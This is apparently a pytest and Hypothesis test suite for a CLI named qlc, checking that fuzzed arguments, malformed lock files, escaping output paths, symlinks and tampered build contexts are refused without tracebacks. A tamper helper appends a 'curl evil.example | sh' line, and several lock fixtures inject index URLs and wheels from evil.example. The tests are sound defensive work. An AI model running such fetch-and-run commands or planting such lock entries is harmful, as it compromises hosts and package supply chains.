"""Bad input: fuzzed command lines, malformed locks, tampered contexts, escaping paths, huge fields.

The CLI contract: exit 0 (done) or 2 (user error) for everything that does not run a job, 1 only
for a build or run that failed; never a traceback. The fuzz runs the real entry point
(`qlc.cli.main`) in-process, thousands of times, in a scratch project so nothing it writes can
touch the repository; a handful of nasty argument lists also go through a real subprocess.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import typer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_support import REPO, TINY_LOCK, invoke, scratch_cwd, tiny_project

from qlc import cli
from qlc.compiler.context import compile_spec
from qlc.compiler.load import SpecError, load_spec
from qlc.compiler.lockfile import LockError, check_lock, parse_lock

# Commands that only read specs and write where -o says: the fuzz may give them real specs.
PURE = {"validate", "explain", "schema", "compile", "version"}
LOCK_TEXT = TINY_LOCK.read_text()
TINY_SOURCE = (REPO / "specs" / "tiny.toml").read_bytes()


def commands() -> dict[str, list[str]]:
    """Every command of the CLI with its option names, read from the app (new ones included)."""
    group = typer.main.get_command(cli.app)
    found = {}
    for name, command in group.commands.items():  # type: ignore[attr-defined]
        found[name] = [
            o for p in command.params for o in (*p.opts, *p.secondary_opts) if o.startswith("-")
        ]
    return found


COMMANDS = commands()


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("cli-fuzz")
    tiny_project(root)
    (root / "broken.toml").write_text('[job]\nname = "UPPER"\nseed = -1\n[model]\npath = 3\n')
    (root / "binary.toml").write_bytes(bytes(range(256)) * 4)
    (root / "empty.toml").write_bytes(b"")
    (root / "adir").mkdir()
    (root / "foreign").mkdir()
    (root / "foreign" / "keep.txt").write_text("not qlc's")
    (root / "plain-file").write_text("x")
    return root


GOOD_PATHS = [
    "tiny.toml",
    "broken.toml",
    "binary.toml",
    "empty.toml",
    "adir",
    "missing.toml",
    "plain-file",
    "tiny/data.jsonl",
    "-",
]
BAD_PATHS = ["missing.toml", "adir", "binary.toml", "empty.toml", "broken.toml", "nope/x.toml"]
OUTPUTS = ["ctx-new", "ctx-new", "foreign", "plain-file", "adir", "tiny.toml", "deep/er/ctx"]
garbage = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=12,
).filter(lambda s: not s.startswith(("/", "..", "~")) and ".." not in s)


@st.composite
def argument_lists(draw: st.DrawFn) -> list[str]:
    names = sorted(COMMANDS)
    command = draw(st.sampled_from([*names, *names, "nonsense", "--help", "--version", ""]))
    pure = command in PURE
    options = [*COMMANDS.get(command, []), "--help", "--nope", "-x", "--", "-"]
    pieces = st.one_of(
        st.sampled_from(GOOD_PATHS if pure else BAD_PATHS),
        st.sampled_from(options),
        st.sampled_from(OUTPUTS).map(lambda o: o if pure else "missing-" + o),
        garbage,
    )
    rest = draw(st.lists(pieces, max_size=5))
    # -o/--output always gets a value from the scratch pool (never an arbitrary path).
    fixed = []
    for i, piece in enumerate(rest):
        fixed.append(piece)
        if piece in ("-o", "--output") and (i + 1 == len(rest) or rest[i + 1] not in OUTPUTS):
            fixed.append(draw(st.sampled_from(OUTPUTS)))
    return [command, *fixed] if command else fixed


@settings(
    max_examples=1000,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(argv=argument_lists())
def test_fuzzed_command_lines_exit_0_or_2_without_traceback(
    argv: list[str], project: Path, tally
) -> None:
    tally()
    with scratch_cwd(project):
        code, _, stderr = invoke(argv)  # any exception other than SystemExit fails the test
    assert "Traceback" not in stderr, (argv, stderr)
    allowed = {0, 2} if (argv and argv[0] in PURE) or not argv else {0, 1, 2}
    assert code in allowed, (argv, code, stderr)
    if code == 2 and argv and argv[0] in PURE and stderr.strip():
        assert "Error" in stderr or re.search(r":\d+:\d+: ", stderr) or "error" in stderr.lower(), (
            argv,
            stderr,
        )


def test_run_with_an_empty_target_is_a_user_error(project: Path, tally) -> None:
    """Regression (found by the fuzz): `qlc run ''` reached the SDK and tracebacks."""
    tally()
    with scratch_cwd(project):
        code, _, stderr = invoke(["run", ""])
    assert code == 2 and "Traceback" not in stderr


NASTY_ARGV: list[Any] = [
    [b"validate", b"\xff\xfe.toml"],  # not UTF-8: Linux argv may hold any bytes
    [b"compile", b"tiny.toml", b"-o", b"\xffctx"],
    [b"explain", b"tiny.toml\n--json"],
    [b"validate", b"tiny.toml", b"missing.toml", b"binary.toml"],
    [b"compile", b"tiny.toml", b"-o", b"plain-file"],  # regression: was a traceback
    [b"compile", b"tiny.toml"],
    [b"--nope"],
]


@pytest.mark.parametrize(
    "argv",
    NASTY_ARGV,
    ids=lambda a: b" ".join(a).decode("latin-1") if isinstance(a, list) else None,
)
def test_subprocess_sample_never_tracebacks(argv: list[bytes], project: Path, tally) -> None:
    tally()
    env = {**os.environ, "PYTHONIOENCODING": ""}
    done = subprocess.run(
        [sys.executable.encode(), b"-m", b"qlc", *argv],
        cwd=project,
        capture_output=True,
        env=env,
        timeout=120,
    )
    assert b"Traceback" not in done.stderr, done.stderr.decode(errors="replace")
    assert done.returncode in (0, 2), (done.returncode, done.stderr)


def test_every_pure_command_with_every_path_and_output(project: Path, tally) -> None:
    """The cross product the fuzz samples thinly: each read-only command, each path kind, each
    output kind."""
    failures = []
    for command in sorted(PURE & set(COMMANDS)):
        for path in GOOD_PATHS:
            for output in [None, *OUTPUTS]:
                argv = [command, path] + (["-o", output] if output else [])
                tally()
                with scratch_cwd(project):
                    try:
                        code, _, stderr = invoke(argv)
                    except Exception as error:  # collected, reported together
                        failures.append(f"{argv}: {type(error).__name__}: {error}")
                        continue
                if code not in (0, 2) or "Traceback" in stderr:
                    failures.append(f"{argv}: exit {code}")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(
    "source", ['" " = 1\n', '[job]\n"na.me" = 1\n', '[runtime.env]\n"a b\\n" = "x"\n']
)
def test_quoted_keys_are_named_in_the_message_on_one_line(source: str, tally) -> None:
    """Regression: a quoted key (" ", "na.me") printed bare as `:  :`; it is now spelt as in
    TOML after the last plain key, and the key column keeps only plain key characters."""
    tally()
    with pytest.raises(SpecError) as caught:
        load_spec(source.encode(), "f.toml")
    for line in str(caught.value).splitlines():
        assert re.match(r"^f\.toml:\d+:\d+: (?:[A-Za-z0-9_.\[\]-]+: )?\S.*$", line), line
    assert '"' in str(caught.value)


# ---------------------------------------------------------------------------------------------
# Lock files: every malformed lock is a LockError that names its line, never a crash.


def _lock_lines() -> list[str]:
    return LOCK_TEXT.splitlines(keepends=True)


MALFORMED_LOCKS = {
    "truncated mid-hash": LOCK_TEXT[: LOCK_TEXT.index("--hash=sha256:") + 30],
    "truncated after continuation": LOCK_TEXT[: LOCK_TEXT.index(" \\\n") + 3],
    "md5 hash": LOCK_TEXT.replace("--hash=sha256:", "--hash=md5:", 1),
    "uppercase hex": re.sub(
        r"sha256:([0-9a-f]{64})", lambda m: "sha256:" + m[1].upper(), LOCK_TEXT, count=1
    ),
    "short hex": re.sub(r"sha256:[0-9a-f]{64}", "sha256:abc", LOCK_TEXT.split("\n", 2)[2], count=1),
    "index-url option": LOCK_TEXT + "--index-url https://evil.example/simple\n",
    "extra-index-url on a pin": LOCK_TEXT.replace(" \\\n", " --extra-index-url http://x \\\n", 1),
    "editable vcs": LOCK_TEXT + "-e git+https://evil.example/x.git#egg=x\n",
    "nested requirement file": LOCK_TEXT + "-r other.txt\n",
    "direct url": LOCK_TEXT
    + "evil @ https://evil.example/evil.whl --hash=sha256:"
    + "0" * 64
    + "\n",
    "range instead of pin": LOCK_TEXT + "evil>=1 --hash=sha256:" + "0" * 64 + "\n",
    "trusted-host": LOCK_TEXT + "--trusted-host evil.example\n",
    "no header": "".join(_lock_lines()[2:]),
    "bad input hash": LOCK_TEXT.replace("# qlc-lock-input: sha256:", "# qlc-lock-input: md5:", 1),
    "pinned twice": LOCK_TEXT + "".join(_lock_lines()[2:6]),
    "empty": "",
    "only comments": "# qlc-lock-input: sha256:" + "0" * 64 + "\n# nothing\n",
}


def _expected_input_hash() -> str:
    return parse_lock(LOCK_TEXT).input_hash


REQUIRED = compile_spec(
    TINY_SOURCE, "specs/tiny.toml", TINY_LOCK.read_bytes()
).plan.stack.requirements()


def checked(text: str):  # type: ignore[no-untyped-def]
    """check_lock as `qlc compile` calls it: the header hash and the plan's top-level pins."""
    return check_lock(text.encode(), _expected_input_hash(), required=REQUIRED)


@pytest.mark.parametrize("case", sorted(MALFORMED_LOCKS))
def test_malformed_lock_is_a_lock_error_with_a_line(case: str, tally) -> None:
    tally()
    text = MALFORMED_LOCKS[case]
    with pytest.raises(LockError) as caught:
        check_lock(text.encode(), _expected_input_hash(), spec_name="tiny.toml")
    lines = max(1, len(text.splitlines()))
    assert 1 <= caught.value.line <= lines, (case, caught.value.line, str(caught.value))
    assert str(caught.value).strip()


@pytest.mark.parametrize("case", ["binary", "latin-1", "nul bytes"])
def test_binary_lock_is_a_lock_error(case: str, tally) -> None:
    tally()
    data = {
        "binary": bytes(range(256)),
        "latin-1": "caf\xe9\n".encode("latin-1"),
        "nul bytes": LOCK_TEXT.encode().replace(b"\naccelerate==", b"\naccel\x00erate==", 1),
    }[case]
    with pytest.raises(LockError) as caught:
        check_lock(data, _expected_input_hash())
    assert caught.value.line >= 1


def test_malformed_lock_reaches_the_user_as_a_spec_error_naming_the_lock(tally) -> None:
    tally()
    with pytest.raises(SpecError) as caught:
        compile_spec(TINY_SOURCE, "specs/tiny.toml", MALFORMED_LOCKS["md5 hash"].encode())
    message = str(caught.value)
    assert re.search(r"specs/tiny\.lock:\d+:\d+: ", message), message


@settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(cut=st.integers(min_value=0, max_value=len(LOCK_TEXT)))
def test_truncated_lock_never_passes_with_packages_missing(cut: int, tally) -> None:
    """A lock cut anywhere must not be accepted unless it still pins every top-level package.

    Regression: check_lock trusted the header hash alone, so a lock cut after its first pins
    compiled, and the image's `pip install --no-deps` would have lacked bitsandbytes etc."""
    tally()
    text = LOCK_TEXT[:cut]
    try:
        lock = checked(text)
    except LockError as error:
        assert error.line >= 1
        return
    for requirement in REQUIRED:
        name, version = requirement.split("==")
        assert lock.version_of(name) == version, f"cut at {cut}: {name} missing, lock accepted"


@settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_mangled_lock_lines_give_lock_errors_or_a_complete_lock(data: st.DataObject, tally) -> None:
    tally()
    lines = _lock_lines()
    index = data.draw(st.integers(min_value=0, max_value=len(lines) - 1))
    junk = data.draw(st.text(max_size=40))
    action = data.draw(st.sampled_from(["replace", "insert", "delete", "duplicate"]))
    if action == "replace":
        lines[index] = junk + "\n"
    elif action == "insert":
        lines.insert(index, junk + "\n")
    elif action == "delete":
        del lines[index]
    else:
        lines.insert(index, lines[index])
    text = "".join(lines)
    try:
        lock = checked(text)
    except LockError as error:
        assert 1 <= error.line <= max(1, len(text.splitlines()) + 1), (error.line, str(error))
        return
    for requirement in REQUIRED:
        name, version = requirement.split("==")
        assert lock.version_of(name) == version, f"{action} line {index}: {name} not pinned"


def test_truncated_lock_reaches_compile_as_an_error_on_its_last_line(tally) -> None:
    tally()
    cut = LOCK_TEXT[: LOCK_TEXT.index("\nbitsandbytes==") + 1]
    with pytest.raises(SpecError) as caught:
        compile_spec(TINY_SOURCE, "specs/tiny.toml", cut.encode())
    message = str(caught.value)
    assert re.search(r"^specs/tiny\.lock:\d+:1: .*body does not match its recorded sha256", message)


def test_lock_with_a_body_digest_refuses_any_cut(tally) -> None:
    """lock_text records the body's sha256 (qlc lock writes it into every lock); every cut of
    such a lock is refused."""
    from qlc.compiler.lockfile import lock_text

    plan = compile_spec(TINY_SOURCE, "specs/tiny.toml", TINY_LOCK.read_bytes()).plan
    body = LOCK_TEXT.split("\n", 3)[3]
    whole = lock_text(plan.stack, plan.stack.python, "x86_64-manylinux_2_28", body)
    assert checked(whole).requirements
    ends = [i + 1 for i, ch in enumerate(whole) if ch == "\n"][3:-1]
    for cut in ends[:: max(1, len(ends) // 60)]:
        tally()
        with pytest.raises(LockError, match="body does not match"):
            checked(whole[:cut])


def test_lock_cut_after_the_top_level_pins_is_refused(tally) -> None:
    tally()
    last_pin = LOCK_TEXT.index("\ntrl==")
    next_pin = re.search(r"\n[a-z]", LOCK_TEXT[last_pin + 1 :])
    assert next_pin is not None, "trl is the last pin: nothing transitive to lose"
    cut = LOCK_TEXT[: last_pin + 1 + next_pin.start() + 1]
    with pytest.raises(LockError):
        checked(cut)


# ---------------------------------------------------------------------------------------------
# Paths: inputs may be anywhere (they are mounted read-only); outputs must stay in the project.

ESCAPING_OUTPUTS = [
    "../../etc",
    "/tmp/out",
    "runs/../../x",
    "..\\..\\x",
    "C:\\runs",
    "a/../..",
    "..",
    "runs/\x00x",
]


@pytest.mark.parametrize("value", ESCAPING_OUTPUTS)
def test_output_dir_outside_the_project_is_a_spec_error(value: str, tally) -> None:
    tally()
    source = TINY_SOURCE.replace(b"seed = 42", b"seed = 42\noutput_dir = " + _toml_str(value))
    with pytest.raises(SpecError) as caught:
        load_spec(source, "t.toml")
    assert re.search(r"^t\.toml:\d+:\d+: job\.output_dir: ", str(caught.value), re.M), str(
        caught.value
    )


@pytest.mark.parametrize("value", ["/abs/model", "../../shared/model", "model"])
def test_input_paths_may_point_anywhere(value: str, tally) -> None:
    """Inputs are only read (mounted read-only), so absolute and '..' paths are allowed."""
    tally()
    source = TINY_SOURCE.replace(b'path = "tiny/model"', b"path = " + _toml_str(value))
    spec, _ = load_spec(source, "t.toml")
    assert spec.model.path == value


def test_a_symlinked_output_dir_placed_by_the_user_is_honoured(tmp_path: Path, tally) -> None:
    """Decision: a spec cannot create links, so a link the user made in their own project
    (runs -> /big/disk) is their choice and runs follow it; the spec itself can only name a
    relative path without '..' (test above)."""
    tally()
    from qlc.compiler.context import plan_spec
    from qlc.runtime.run import run_inputs

    project = tmp_path / "project"
    spec = tiny_project(project)
    (tmp_path / "big-disk").mkdir()
    (project / "runs").symlink_to(tmp_path / "big-disk")
    inputs = run_inputs(plan_spec(spec.read_bytes(), spec.name)[0], spec, project)
    assert inputs.output_root.resolve() == (tmp_path / "big-disk" / "tiny").resolve()


def _host_view() -> Any:
    from qlc.runtime.manifest import HostView

    return HostView(
        mode="container",
        exit_code=1,
        oom_killed=False,
        ended="exited",
        image_id=None,
        image_tag=None,
        base_image=None,
        base_image_id=None,
        started_at="2026-01-01T00:00:00Z",
        finished_at="2026-01-01T00:00:01Z",
        duration_s=1.0,
        user="10001:10001",
        network="none",
        gpus_requested=0,
    )


@pytest.mark.parametrize("name", ["report.md", "manifest.sha256", "loss.png"])
def test_host_never_writes_through_links_the_run_left(name: str, tmp_path: Path, tally) -> None:
    """The run directory is writable by the container: whatever it leaves there is hostile.
    Regression: finalize wrote report.md and manifest.sha256 through such links."""
    tally()
    from qlc.runtime.manifest import finalize

    run_dir = tmp_path / "run"
    run_dir.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("host file\n")
    (run_dir / name).symlink_to(victim)
    (run_dir / "metrics.jsonl").write_text(  # so that loss.png is drawn
        "".join(json.dumps({"event": "train", "step": i, "loss": 2.0 / i}) + "\n" for i in (1, 2))
    )
    (run_dir / "manifest.json").write_text('{"predicate": {"status": "running"}, "subject": []}')
    finalize(run_dir, _host_view())
    assert victim.read_text() == "host file\n", f"{name} was written through its link"


# ---------------------------------------------------------------------------------------------
# Oversized fields: refused with the key and line, or compiled quickly.


def _toml_str(value: str) -> bytes:
    import json

    return json.dumps(value).replace("\\/", "/").encode()


@pytest.mark.parametrize("size", [10_000, 200_000])
def test_oversized_string_fields_are_refused_or_cheap(size: int, tally) -> None:
    import time

    from injection_fields import free_string_fields, spec_with

    for field in free_string_fields():
        tally()
        source = spec_with(field, "a" * size)
        started = time.monotonic()
        try:
            compile_spec(source, "t.toml", TINY_LOCK.read_bytes())
        except SpecError as error:
            text = str(error)
            assert f": {field.key}" in text or field.key.split(".")[-1] in text, (field.key, text)
        assert time.monotonic() - started < 5, field.key


def test_huge_env_table_compiles_or_is_refused_quickly(tally) -> None:
    import time

    tally()
    body = "".join(f'V{i} = "{i}"\n' for i in range(20_000))
    source = TINY_SOURCE + b"\n[runtime.env]\n" + body.encode()
    source = source.replace(b"[runtime]\ngpus = 0", b"[runtime]\ngpus = 0")
    started = time.monotonic()
    with contextlib.suppress(SpecError):
        compile_spec(source, "t.toml", TINY_LOCK.read_bytes())
    assert time.monotonic() - started < 10


# ---------------------------------------------------------------------------------------------
# Tampered build contexts: the build sends exactly the compiler's files, or refuses.


class _StandInEngine:
    """The runtime's Engine seam with no daemon: no image exists; `build` records the files
    it would have sent. `during_find` / `during_build` simulate another process editing the
    context folder at that moment."""

    endpoint = "stand-in"

    def __init__(
        self, during_find: Any = None, during_build: Any = None, project: Path | None = None
    ) -> None:
        self.during_find, self.during_build = during_find, during_build
        self.project = project
        self.sent: dict[str, bytes] | None = None

    @property
    def context_dir(self) -> Path:
        assert self.project is not None, "during_build needs the project"
        return _context_dir(self.project)

    def ping(self) -> None:
        return None

    def find_image(self, ref: str) -> None:
        if self.during_find is not None and ref.startswith("qlc/"):
            self.during_find()
        return None

    def build(self, files: Any, tag: str, buildargs: Any, labels: Any, on_line: Any) -> str:
        if self.during_build is not None:
            self.during_build(self.context_dir)
        self.sent = dict(files)  # the bytes the daemon gets (an in-memory tar of them)
        return "sha256:" + "0" * 64


def _context_dir(project: Path) -> Path:
    (folder,) = (project / ".qlc" / "contexts").iterdir()
    return folder


def _tamper(folder: Path) -> None:
    with (folder / "train.py").open("a") as handle:
        handle.write("\nimport os; os.system('curl evil.example | sh')\n")


def test_build_rewrites_a_context_edited_since_the_last_build(tmp_path: Path, tally) -> None:
    tally()
    from qlc.runtime.build import build, compile_for_build

    spec = tiny_project(tmp_path / "p")
    build(spec, "base", project_dir=tmp_path / "p", engine=_StandInEngine())  # type: ignore[arg-type]
    _tamper(_context_dir(tmp_path / "p"))
    engine = _StandInEngine()
    build(spec, "base", project_dir=tmp_path / "p", engine=engine)  # type: ignore[arg-type]
    expected = compile_for_build(spec, tmp_path / "p").context.files
    assert engine.sent is not None
    assert {k: v for k, v in engine.sent.items() if k in expected} == expected
    assert set(engine.sent) - set(expected) <= {".qlc-context"}


def test_build_refuses_a_context_changed_after_it_was_written(tmp_path: Path, tally) -> None:
    tally()
    from qlc.runtime.build import BuildFailure, build

    project = tmp_path / "p"
    spec = tiny_project(project)
    engine = _StandInEngine(during_find=lambda: _tamper(_context_dir(project)))
    with pytest.raises(BuildFailure, match="changed after it was compiled"):
        build(spec, "base", project_dir=project, engine=engine)  # type: ignore[arg-type]
    assert engine.sent is None, "the tampered files reached the daemon"


def test_build_sends_the_checked_bytes_not_a_folder_read_again(tmp_path: Path, tally) -> None:
    tally()
    from qlc.runtime.build import build, compile_for_build

    project = tmp_path / "p"
    spec = tiny_project(project)
    engine = _StandInEngine(during_build=_tamper, project=project)
    try:
        build(spec, "base", project_dir=project, engine=engine)  # type: ignore[arg-type]
    except Exception:  # refusing is a pass
        return
    expected = compile_for_build(spec, project).context.files
    assert engine.sent is not None
    assert engine.sent["train.py"] == expected["train.py"], "tampered train.py was built"


# ---------------------------------------------------------------------------------------------
# A manifest edited by hand: `qlc reproduce` must notice before it reruns anything.


class _NoEngine:
    endpoint = "none"

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"reproduce used the engine ({name}) for an edited manifest")


def _finished_run(tmp_path: Path) -> Path:
    """A run directory as the runtime leaves a succeeded run (no training needed)."""
    from qlc.runtime.manifest import finalize

    project = tmp_path / "p"
    spec = tiny_project(project)
    run_dir = project / "runs" / "tiny" / "run-1"
    (run_dir / "adapter").mkdir(parents=True)
    (run_dir / "adapter" / "adapter_model.safetensors").write_bytes(os.urandom(256))
    (run_dir / "adapter" / "adapter_config.json").write_text('{"r": 8}')
    from reliability_support import hash_tree, sha256_file

    from qlc import contract

    run = dict.fromkeys(contract.RUN_SCHEMA)
    run.update(smoke=False, seed=42, deterministic=True, world_size=1)
    manifest = {
        "_type": contract.STATEMENT_TYPE,
        "predicateType": contract.PREDICATE_TYPE,
        "subject": [
            {"name": f"adapter/{n}", "digest": {"sha256": h}}
            for n, h in hash_tree(run_dir / "adapter").items()
        ],
        "predicate": {
            "version": contract.MANIFEST_VERSION,
            "status": "succeeded",
            "qlc_version": "0",
            "error": None,
            "metrics": {"final_loss": 6.5},
            "spec": {"name": "tiny.toml", "sha256": sha256_file(spec)},
            "plan_sha256": None,
            "lock_sha256": sha256_file(spec.with_suffix(".lock")),
            "image": {"id": None, "digest": None, "base": None},
            "inputs": {
                "model": {"files": hash_tree(project / "tiny" / "model")},
                "data": {"files": hash_tree(project / "tiny" / "data.jsonl")},
            },
            "run": run,
            "effective": {},
            "substitutions": [],
            "decisions": [],
            "observed": {},
            "records": {},
            "environment": {},
        },
    }
    (run_dir / "manifest.json").write_text(json.dumps(manifest))
    host = _host_view()
    from dataclasses import replace

    final = finalize(run_dir, replace(host, exit_code=0, spec_path=str(spec)))
    assert final.status == "succeeded", final.problems
    return run_dir


def test_reproduce_detects_a_hand_edited_manifest(tmp_path: Path, tally) -> None:
    tally()
    from qlc.runtime.reproduce import reproduce

    run_dir = _finished_run(tmp_path)
    data = json.loads((run_dir / "manifest.json").read_text())
    data["predicate"]["metrics"]["final_loss"] = 0.01  # a better-looking run
    (run_dir / "manifest.json").write_text(json.dumps(data))
    result = reproduce(run_dir / "manifest.json", project_dir=tmp_path / "p", engine=_NoEngine())  # type: ignore[arg-type]
    assert not result.reproduced
    assert any(v.item == "manifest" and not v.ok and "edited" in v.detail for v in result.verdicts)


def test_reproduce_checks_the_subjects_against_the_run_files(tmp_path: Path, tally) -> None:
    tally()
    import hashlib

    from qlc.runtime.reproduce import ReproduceError, reproduce

    run_dir = _finished_run(tmp_path)
    data = json.loads((run_dir / "manifest.json").read_text())
    data["subject"][0]["digest"]["sha256"] = "0" * 64  # claims another adapter
    text = json.dumps(data)
    (run_dir / "manifest.json").write_text(text)
    digest = hashlib.sha256(text.encode()).hexdigest()
    (run_dir / "manifest.sha256").write_text(f"{digest}  manifest.json\n")
    try:
        result = reproduce(
            run_dir / "manifest.json", project_dir=tmp_path / "p", engine=_NoEngine()
        )  # type: ignore[arg-type]
    except ReproduceError:
        return
    assert not result.reproduced
    assert any(not v.ok and "subject" in v.detail for v in result.verdicts)
